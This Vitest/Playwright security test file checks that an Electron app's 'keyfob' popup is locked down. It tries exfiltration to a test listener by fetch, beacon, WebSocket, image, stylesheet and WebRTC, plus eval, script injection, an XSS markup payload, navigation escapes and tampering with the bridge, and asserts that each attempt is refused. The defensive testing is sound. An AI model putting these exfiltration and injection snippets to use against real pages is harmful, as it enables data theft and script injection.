import { join } from 'node:path';
import type { Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { root } from '../../build/root.mjs';
import type { Bridge } from '../../electron/bridge/contract.ts';
import type { RunningApplication } from '../support/application.ts';
import { startApplication } from '../support/application.ts';
import { startListener } from '../support/listener.ts';

declare global {
  interface Window {
    readonly keyfob: Bridge;
  }
}

const PAGE = 'app://keyfob/index.html';
let app: RunningApplication;
let popup: Page;
let outside: Awaited<ReturnType<typeof startListener>>;

beforeAll(async () => {
  outside = await startListener();
  app = await startApplication();
  popup = await app.open();
});
afterAll(async () => {
  await app.stop();
  await outside.stop();
});

/** What a page that somebody took over would try, each with the address of a listener. */
const ways: Record<string, (host: string) => unknown> = {
  fetch: (host) => fetch(`http://${host}/`),
  'fetch without CORS': (host) => fetch(`http://${host}/`, { mode: 'no-cors', method: 'POST', body: 'x' }),
  XMLHttpRequest: (host) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open('GET', `http://${host}/`);
      request.send();
    }),
  WebSocket: (host) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://${host}/`);
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
  'an image': (host) =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = `http://${host}/x.png`;
    }),
  'a style sheet': (host) =>
    new Promise((resolve, reject) => {
      const link = document.createElement('link');
      link.onload = resolve;
      link.onerror = reject;
      link.rel = 'stylesheet';
      link.href = `http://${host}/x.css`;
      document.head.append(link);
    }),
  'a beacon': (host) => {
    if (!navigator.sendBeacon(`http://${host}/`, 'x')) throw new Error('refused');
    return new Promise((_resolve, reject) => document.addEventListener('securitypolicyviolation', reject, { once: true }));
  },
  'a worker': () => new Worker(URL.createObjectURL(new Blob(['']))),
  'a service worker': () => navigator.serviceWorker.register('./index.js'),
  'text as program': () =>
    new Promise((resolve, reject) => {
      const read = Reflect.get(globalThis, 'eval') as (text: string) => unknown;
      const attempt = () => void Promise.resolve('1').then(read).then(resolve, reject);
      setTimeout(attempt); // not in Playwright's own call, which may
    }),
  'text as a script': () => {
    const script = document.createElement('script');
    script.text = 'window.taken = true';
    document.head.append(script);
    if (!('taken' in window)) throw new Error('refused');
  },
  'text as markup': () => {
    document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
  },
};

test.each(Object.entries(ways))('%s is refused to the page', async (_way, attempt) => {
  await expect(popup.evaluate(attempt, outside.host)).rejects.toThrow();
  expect(outside.visitors()).toEqual([]);
});

test('nothing of what the page tries reaches the network, calls between browsers and names included', async () => {
  await popup.evaluate(async (host) => {
    for (const rel of ['preload', 'prefetch', 'dns-prefetch', 'preconnect']) {
      const link = Object.assign(document.createElement('link'), { rel, href: `http://${host}/`, as: 'image' });
      document.head.append(link);
    }
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    call.createDataChannel('x');
    const gathered = new Promise<void>((resolve) => {
      call.onicegatheringstatechange = () => call.iceGatheringState === 'complete' && resolve();
    });
    await call.setLocalDescription(await call.createOffer());
    await gathered;
    call.close();
  }, outside.host);
  expect(outside.visitors()).toEqual([]);
});

test('the page stays where it is, alone', async () => {
  const opened = await popup.evaluate((host) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/`, method: 'post' });
    const frame = Object.assign(document.createElement('iframe'), { src: `http://${host}/` });
    document.body.append(form, frame);
    form.submit();
    location.href = `http://${host}/`;
    location.assign('app://keyfob/index.html?other');
    return window.open(`http://${host}/`) === null && window.open('about:blank') === null;
  }, outside.host);
  expect(opened).toBe(true);
  await popup.evaluate(() => new Promise((resolve) => setTimeout(resolve))); // a navigation would have begun by now
  expect(popup.url()).toBe(PAGE);
  expect(app.electron.windows()).toHaveLength(1);
  expect(outside.visitors()).toEqual([]);
});

test('the page has no Node, and cannot change its bridge', async () => {
  const found = await popup.evaluate(() => {
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'setImmediate', 'electron'].filter((name) => name in window);
    const before = window.keyfob.ask;
    Reflect.set(window.keyfob, 'ask', () => 'taken');
    Reflect.set(window, 'keyfob', {});
    return { names, isSame: window.keyfob.ask === before, has: Object.keys(window.keyfob).sort() };
  });
  expect(found).toEqual({ names: [], isSame: true, has: ['ask', 'onShown', 'onState'] });
});

test.each(['geolocation', 'camera', 'microphone', 'notifications', 'midi', 'clipboard-read', 'clipboard-write', 'persistent-storage'])(
  'the page has no permission for %s',
  async (name) => {
    const state = await popup.evaluate(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state, name);
    expect(state).toBe('denied');
  },
);

test('the page cannot look at what was copied, nor at the screen', async () => {
  await expect(popup.evaluate(() => navigator.clipboard.readText())).rejects.toThrow();
  await expect(popup.evaluate(() => navigator.mediaDevices.getDisplayMedia())).rejects.toThrow();
  await expect(popup.evaluate(() => navigator.mediaDevices.getUserMedia({ audio: true }))).rejects.toThrow();
});

test('the policy comes with the page, and denies what it does not name', async () => {
  const policy = await app.electron.evaluate(async ({ BrowserWindow }, page) => {
    const [window] = BrowserWindow.getAllWindows();
    const answer = await window?.webContents.session.fetch(page, { bypassCustomProtocolHandlers: false });
    return answer?.headers.get('content-security-policy');
  }, PAGE);
  expect(policy).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; form-action 'none'/);
});

test('the window is isolated and sandboxed, in a session that leaves nothing on the disk', async () => {
  const found = await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents;
    const preferences = (contents as unknown as { getLastWebPreferences(): Electron.WebPreferences }).getLastWebPreferences();
    const { sandbox, contextIsolation, nodeIntegration, webviewTag, webSecurity } = preferences;
    contents?.openDevTools({ mode: 'detach' });
    const hasTools = contents?.isDevToolsOpened();
    return { sandbox, contextIsolation, nodeIntegration, webviewTag, webSecurity, hasTools, isPersistent: contents?.session.isPersistent() };
  });
  expect(found).toEqual({
    sandbox: true, contextIsolation: true, nodeIntegration: false, webviewTag: false, webSecurity: true, hasTools: false, isPersistent: false,
  });
});

test('a message of a wrong shape is refused', async () => {
  const replies = await popup.evaluate(async () => {
    const ask = window.keyfob.ask as (command: string, message: unknown) => Promise<{ ok: boolean }>;
    return [await ask('startSession', { identity: 'alice' }), await ask('fitPopup', { height: 'tall' }), await ask('lock', { extra: 1 })];
  });
  for (const reply of replies) expect(reply).toMatchObject({ ok: false, why: { code: 'badValue' } });
  await expect(popup.evaluate(() => (window.keyfob.ask as (command: string) => Promise<unknown>)('quit'))).rejects.toThrow();
});

test('another window with the same script is not heard', async () => {
  const answers = await app.electron.evaluate(async ({ BrowserWindow }, { page, preload }) => {
    const stranger = new BrowserWindow({ show: false, webPreferences: { preload, partition: 'popup' } });
    await stranger.loadURL(page);
    const found = await stranger.webContents.executeJavaScript(`new Promise((resolve) => {
      window.keyfob.onState(() => resolve('it got a picture'));
      window.keyfob.ask('lock', {}).then(() => resolve('it was heard'), () => resolve('refused'));
    })`);
    stranger.destroy();
    return found;
  }, { page: PAGE, preload: join(root, 'dist/app/preload.cjs') });
  expect(answers).toBe('refused');
});
